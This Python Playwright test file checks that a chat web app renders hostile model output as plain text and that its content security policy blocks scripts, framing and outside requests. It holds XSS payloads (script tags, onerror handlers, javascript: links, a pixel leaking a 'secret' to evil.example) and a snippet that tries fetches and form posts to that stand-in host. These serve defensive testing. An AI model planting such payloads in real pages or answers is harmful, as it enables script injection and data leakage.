"""What a hostile answer, or a page that was tampered with, can do: nothing."""

import json
from urllib.parse import urlsplit

from chat_page import (
    ask,
    expect_finished,
    open_browser,
    visit,
)
from e2e_stack import RunningStack
from people import Person
from playwright.sync_api import Browser, Page, Route, expect

HOSTILE = """<img src=https://evil.example/a.png onerror="top.ran=1"> <script>top.ran=1</script>

![pixel](https://evil.example/p.png?secret=1) [click](javascript:top.ran=1) [go](http://evil.example)

<https://evil.example/x> $\\href{javascript:top.ran=1}{x}$
"""


# Does harm of one kind, as a script in the page could, and gives what forbade it.
DO_HARM = """
async (kind) => {
  const told = new Promise((resolve) =>
    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective),
                     {once: true}));
  const add = (name, fields) => document.body.append(
    Object.assign(document.createElement(name), fields));
  const harms = {
    html: () => { document.createElement("p").innerHTML = "<b>x</b>"; },
    script: () => { document.createElement("script").src = "/x.js"; },
    eval: () => (0, eval)("1"),
    fetch: () => fetch("https://evil.example/"),
    image: () => { new Image().src = "https://evil.example/i.png"; },
    frame: () => add("iframe", {src: "https://evil.example/"}),
    style: () => add("style", {textContent: "p {color: red}"}),
    form: () => {
      add("form", {action: "https://evil.example/"});
      document.forms[0].submit();
    },
  };
  // In a task of its own: what the debugger runs may use eval.
  setTimeout(async () => { try { await harms[kind](); } catch {} });
  return told;
}
"""


def frame(**event: object) -> str:
    """One event that has no number of its own."""
    return f"data: {json.dumps(event)}\n\n"


def test_a_hostile_answer_over_the_real_wire_is_only_text_t7(
    chat: Page, faulty: RunningStack
) -> None:
    """In the answer, in a tool's name, arguments and result, in reasoning, notices and errors."""
    call = {"toolCallId": "evil"}
    text = "".join(
        [
            frame(type="TEXT_MESSAGE_CONTENT", messageId="evil", delta=HOSTILE),
            frame(type="REASONING_MESSAGE_CONTENT", messageId="r", delta=HOSTILE),
            frame(type="TOOL_CALL_START", **call, toolCallName=HOSTILE),
            frame(type="TOOL_CALL_ARGS", **call, delta=json.dumps({"x": HOSTILE})),
            frame(type="TOOL_CALL_RESULT", **call, messageId="m", role="tool", content=HOSTILE),
            frame(type="CUSTOM", name="unknown", value={"message": HOSTILE}),
        ]
    )
    asked: list[str] = []

    def watch(route: Route) -> None:
        asked.append(urlsplit(route.request.url).hostname or "")
        route.continue_()

    chat.route("**/*", watch)
    faulty.break_next({"do": "insert", "events": 3, "text": text, "on": "message"})
    answer = ask(chat, "Hello")
    expect_finished(answer)
    for summary in answer.locator("summary").all():
        summary.click()
    expect(answer).to_contain_text("<script>top.ran=1</script>")
    expect(answer.locator("img, script, iframe, style, link, form")).to_have_count(0)
    links = answer.get_by_role("link").evaluate_all("all => all.map(each => each.href)")
    assert links
    assert all(link.startswith("https://") for link in links)
    assert chat.evaluate("window.ran") is None
    assert set(asked) <= {"localhost"}
    chat.unroute("**/*", watch)


def test_the_page_forbids_itself_scripts_styles_and_strangers_t7(
    browser: Browser, faulty: RunningStack
) -> None:
    """The policy that the template sets, at work in the browser."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(faulty.outputs["SpaUrl"])
    expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    expected = {
        "html": "require-trusted-types-for",
        "script": "require-trusted-types-for",
        "eval": "require-trusted-types-for",
        "fetch": "connect-src",
        "image": "img-src",
        "frame": "frame-src",
        "style": "style-src-elem",
        "form": "form-action",
    }
    assert {kind: page.evaluate(DO_HARM, kind) for kind in expected} == expected
    context.close()


def test_the_page_talks_to_nobody_but_its_own_stack_t7(
    browser: Browser, faulty: RunningStack, person: Person
) -> None:
    own = {urlsplit(faulty.outputs[name]).netloc for name in ("SpaUrl", "ApiUrl", "LoginUrl")}
    hosts: set[str] = set()
    with open_browser(browser) as context:
        context.on("request", lambda sent: hosts.add(urlsplit(sent.url).netloc))
        page = visit(context, faulty, person)
        expect_finished(ask(page, "Show me a markdown page"))
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    assert hosts <= own


def test_nobody_can_put_the_page_into_a_frame(browser: Browser, faulty: RunningStack) -> None:
    with open_browser(browser) as context:
        page = context.new_page()
        page.route(
            "http://localhost/framing",
            lambda route: route.fulfill(
                content_type="text/html", body=f"<iframe src='{faulty.outputs['SpaUrl']}'>"
            ),
        )
        page.goto("http://localhost/framing")
        expect(page.frame_locator("iframe").get_by_role("button", name="Sign in")).to_have_count(0)
        assert page.frames[1].url.startswith("chrome-error:")
